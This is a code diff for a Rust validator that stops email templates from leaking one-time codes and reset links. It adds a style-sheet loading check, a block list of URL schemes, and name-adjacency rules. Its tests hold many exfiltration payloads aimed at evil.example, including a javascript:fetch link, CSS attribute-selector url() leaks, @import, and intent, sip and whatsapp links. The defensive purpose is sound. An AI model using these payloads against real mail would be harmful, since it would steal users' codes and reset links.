@@ -28,11 +28,17 @@ pub enum MisplacedSecret {
     /// In a comment, a style sheet, a script, a name, or a tag that does not end.
     #[error("%CODE% and %LINK% must not stand in comments, styles, scripts or unfinished tags")]
     Hidden,
-    /// Joined to an address, which mail programs turn into a link.
+    /// Joined to an address, which mail programs turn into a link, or to a name that may be one.
     #[error(
-        "%CODE% and %LINK% must not be joined to an address in the text: put a blank before and after them"
+        "%CODE% and %LINK% must not be joined to an address, %APP_NAME% or %HANDLE% in the text: put a blank before and after \
+         them"
     )]
     InAddress,
+    /// Beside a style sheet that loads something: which rule applies, and so what is loaded, may depend on the secret.
+    #[error(
+        "a message with %CODE% or %LINK% must hold no <link>, and no url(), @import, @font-face or \\ in <style>"
+    )]
+    LoadingStyle,
     /// Next to an element that mail programs read in different ways.
     #[error(
         "a message with %CODE% or %LINK% must not hold <{0}>, which mail programs read in different ways"
@@ -63,7 +69,7 @@ struct Held {
 fn check_markup(html: &str, own: &str) -> Result<(), MisplacedSecret> {
     let mut scanner = Scanner::default();
     let (mut value, mut held): (String, Option<Held>) = (String::new(), None);
-    let mut result = Ok(());
+    let (mut result, mut style) = (Ok(()), None);
     for (at, c) in html.char_indices() {
         let rest = html.get(at..).unwrap_or_default();
         if SECRETS.iter().any(|secret| rest.starts_with(secret)) {
@@ -89,11 +95,30 @@ fn check_markup(html: &str, own: &str) -> Result<(), MisplacedSecret> {
                 if let (Found::Tag, Some(name)) = (found, ambiguous) {
                     result = Err(MisplacedSecret::Ambiguous(name));
                 }
+                match (found, scanner.tag()) {
+                    (Found::Tag, "link") => result = Err(MisplacedSecret::LoadingStyle),
+                    (Found::Tag, "style") if !scanner.is_end_tag() => style = Some(at),
+                    (Found::Tag, "style") if style.take().is_some_and(|from| loads(html.get(from..at))) => {
+                        result = Err(MisplacedSecret::LoadingStyle);
+                    }
+                    _ => {}
+                }
             }
         });
         result.clone()?;
     }
+    if style.is_some_and(|from| loads(html.get(from..))) {
+        return Err(MisplacedSecret::LoadingStyle);
+    }
     if held.is_some() { Err(MisplacedSecret::Hidden) } else { Ok(()) }
+}
+
+/// Whether a style sheet may load something. A selector tells the values of attributes, a font the letters of a text.
+fn loads(style: Option<&str>) -> bool {
+    let style = style.unwrap_or_default().to_ascii_lowercase();
+    ["url(", "src(", "image(", "image-set(", "@import", "@font-face", "\\"]
+        .iter()
+        .any(|part| style.contains(part))
 }
 
 fn check_value(held: &Held, value: &str, own: &str) -> Result<(), MisplacedSecret> {
@@ -118,55 +143,116 @@ fn begins_with_own(address: &str, own: &str) -> bool {
     !own.is_empty() && address.strip_prefix(own).is_some_and(|rest| rest.starts_with(['/', '?', '#']))
 }
 
-/// Whether an address begins with a scheme (RFC 3986 section 3.1) that an app has registered for itself.
+/// Schemes that a system or a widespread program handles: they load what follows, or send it to somebody.
+const OF_OTHERS: [&str; 74] = [
+    "about",
+    "acap",
+    "afp",
+    "aim",
+    "android-app",
+    "blob",
+    "callto",
+    "cap",
+    "cid",
+    "data",
+    "dav",
+    "davs",
+    "dict",
+    "discord",
+    "dns",
+    "facetime",
+    "fax",
+    "feed",
+    "feeds",
+    "file",
+    "finger",
+    "ftp",
+    "ftps",
+    "git",
+    "gopher",
+    "im",
+    "imap",
+    "intent",
+    "irc",
+    "ircs",
+    "itms",
+    "itpc",
+    "javascript",
+    "jabber",
+    "ldap",
+    "ldaps",
+    "line",
+    "magnet",
+    "mailto",
+    "market",
+    "mid",
+    "mms",
+    "modem",
+    "msteams",
+    "news",
+    "nfs",
+    "nntp",
+    "pcast",
+    "pres",
+    "rdp",
+    "rtmp",
+    "rtsp",
+    "search-ms",
+    "sftp",
+    "sgnl",
+    "sip",
+    "sips",
+    "skype",
+    "slack",
+    "smb",
+    "sms",
+    "smsto",
+    "snews",
+    "ssh",
+    "steam",
+    "svn",
+    "tel",
+    "telnet",
+    "tg",
+    "vnc",
+    "webcal",
+    "webcals",
+    "weixin",
+    "whatsapp",
+];
+
+/// Parts of the names of schemes that open browsers, or another address.
+const OPENING: [&str; 13] = [
+    "http",
+    "browser",
+    "chrome",
+    "firefox",
+    "edge",
+    "safari",
+    "opera",
+    "brave",
+    "view-source",
+    "vbscript",
+    "wss",
+    "ms-",
+    "messenger",
+];
+
+/// Whether an address is for an app on the reader's own device: its scheme (RFC 3986 section 3.1) is a name of a domain
+/// turned round (RFC 8252 section 7.1), or a word that is nobody else's. After such a word comes nothing that can be a
+/// host, an address or another scheme.
 fn has_apps_scheme(address: &str) -> bool {
-    // These send what follows to somebody, load it, or open a browser.
-    const OF_THE_SYSTEM: [&str; 24] = [
-        "about",
-        "android-app",
-        "blob",
-        "callto",
-        "cid",
-        "data",
-        "facetime",
-        "feed",
-        "file",
-        "ftp",
-        "ftps",
-        "gopher",
-        "intent",
-        "javascript",
-        "mailto",
-        "market",
-        "mid",
-        "sftp",
-        "sms",
-        "smsto",
-        "tel",
-        "vbscript",
-        "webcal",
-        "ws",
-    ];
-    let Some((scheme, _)) = address.split_once(':') else { return false };
+    let Some((scheme, rest)) = address.split_once(':') else { return false };
     let scheme = scheme.to_ascii_lowercase();
-    scheme.starts_with(|c: char| c.is_ascii_alphabetic())
+    let is_apps = scheme.starts_with(|c: char| c.is_ascii_alphabetic())
         && scheme.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
-        && !OF_THE_SYSTEM.contains(&scheme.as_str())
-        && ![
-            "http",
-            "browser",
-            "chrome",
-            "firefox",
-            "edge",
-            "safari",
-            "opera",
-            "brave",
-            "view-source",
-            "wss",
-            "ms-",
-        ]
-        .iter()
-        .any(|part| scheme.contains(part))
+        && !OF_OTHERS.contains(&scheme.as_str())
+        && !OPENING.iter().any(|part| scheme.contains(part))
+        && scheme != "ws";
+    let rest = SECRETS.iter().fold(rest.replace("&amp;", "&"), |rest, secret| rest.replace(secret, ""));
+    let leads_elsewhere =
+        |c: char| !c.is_ascii() || matches!(c, '.' | '@' | ':' | ';' | '\\' | '%') || c.is_whitespace();
+    is_apps && (scheme.contains('.') || !(rest.contains(leads_elsewhere) || rest.contains("&#")))
 }
 
 /// Mail programs make a link of whatever looks like an address, and some load it for a preview.
@@ -176,7 +262,10 @@ fn check_text(text: &str, own: &str) -> Result<(), MisplacedSecret> {
         for (at, length) in secrets {
             let before = word.get(..at).unwrap_or_default();
             let after = word.get(at + length..).unwrap_or_default();
-            if joins_before(before, own) || joins_after(after) {
+            // What an application or a user is called may be an address.
+            let is_named =
+                ["%APP_NAME%", "%HANDLE%"].iter().any(|name| before.contains(name) || after.contains(name));
+            if is_named || joins_before(before, own) || joins_after(after) {
                 return Err(MisplacedSecret::InAddress);
             }
         }
@@ -221,6 +310,11 @@ mod tests {
             "<a href=\"https://auth.example.com/go?code=%CODE%\" title=\"%CODE%\">Here</a>",
             "<a href=\"shop://reset/%CODE%\">Open the app</a>",
             "<a href=\"com.example.shop:/reset?code=%CODE%\">Open the app</a>",
+            "<a href=\"shop://reset?code=%CODE%&amp;from=mail\">Open the app</a>",
+            "<style>p { color: red } a[href] { color: blue }</style><p>%CODE%</p>",
+            "<p style=\"background: url(https://cdn.example/logo.png)\">%CODE%</p>",
+            "<style>p { background: url(https://cdn.example/logo.png) }</style><p>no secret</p>",
+            "<p>%APP_NAME%: %CODE%, %HANDLE%</p>",
             "<img src=\"https://cdn.example/logo.png\" alt=\"%CODE%\">%CODE%",
             "<img src=\"https://cdn.example/%APP_NAME%.png\"><p>%CODE%</p>",
             "<table><tr><td>www.shop.example</td><td>%CODE%</td></tr></table>",
@@ -255,6 +349,18 @@ mod tests {
             "<a href=\"HTTPS://evil.example/%CODE%\">x</a>",
             "<a href=\"intent://evil.example/%CODE%#Intent;scheme=https;end\">x</a>",
             "<a href=\"googlechromes://evil.example/%CODE%\">x</a>",
+            "<a href=\"webcals://evil.example/%CODE%\">x</a>",
+            "<a href=\"smb://evil/%CODE%\">x</a>",
+            "<a href=\"unheard-of://evil.example/%CODE%\">x</a>",
+            "<a href=\"unheard-of://evil&period;example/%CODE%\">x</a>",
+            "<a href=\"unheard-of://evil&#46example/%CODE%\">x</a>",
+            "<a href=\"unheard-of://evil%2eexample/%CODE%\">x</a>",
+            "<a href=\"unheard-of://[::1]/%CODE%\">x</a>",
+            "<a href=\"unheard-of:eve@evil?%CODE%\">x</a>",
+            "<a href=\"unheard-of://%APP_NAME%/%CODE%\">x</a>",
+            "<a href=\"sip:%CODE%@evil.example\">x</a>",
+            "<a href=\"whatsapp://send?phone=1&text=%CODE%\">x</a>",
+            "<a href=\"steam://openurl/https://evil/%CODE%\">x</a>",
             "<a href=\"mailto:eve@evil.example?body=%CODE%\">x</a>",
             "<a href=\"javascript:fetch('https://evil.example/%CODE%')\">x</a>",
             "<a ping=\"https://evil.example/%CODE%\" href=\"%LINK%\">x</a>",
@@ -293,6 +399,26 @@ mod tests {
     }
 
     #[test]
+    fn sec_133_no_style_sheet_tells_the_secret_by_what_it_loads() {
+        for style in [
+            "b[title^=\"100\"] { background: url(https://evil.example/100) }",
+            "b { border-image: U\\52L(https://evil.example/) }",
+            "@import 'https://evil.example/s.css';",
+            "@font-face { font-family: x; src: local(x) }",
+            "b { background: image-set('https://evil.example/x' 1x) }",
+        ] {
+            for html in [
+                format!("<style>{style}</style><b title=\"%CODE%\">%CODE%</b>"),
+                format!("<a href=\"%LINK%\">x</a><STYLE type=text/css>{style}"),
+            ] {
+                assert_eq!(check_secrets(&html, OWN), Err(MisplacedSecret::LoadingStyle), "{html}");
+            }
+        }
+        let sheet = "<link rel=stylesheet href=https://evil.example/s.css><p>%CODE%</p>";
+        assert_eq!(check_secrets(sheet, OWN), Err(MisplacedSecret::LoadingStyle));
+    }
+
+    #[test]
     fn sec_133_text_that_becomes_a_link_holds_no_secret() {
         for html in [
             "<p>https://evil.example/%CODE%</p>",
@@ -309,6 +435,10 @@ mod tests {
             "(https://evil.example/?u=%LINK%)",
             "x.example/<a href=\"%LINK%\">y</a>",
             "%CODE% evil.example/%CODE%",
+            "%APP_NAME%/%CODE%",
+            "%APP_NAME%%CODE%",
+            "<b>%HANDLE%</b>?%LINK%",
+            "%CODE%.%APP_NAME%",
         ] {
             assert_eq!(check_secrets(html, OWN), Err(MisplacedSecret::InAddress), "{html}");
         }
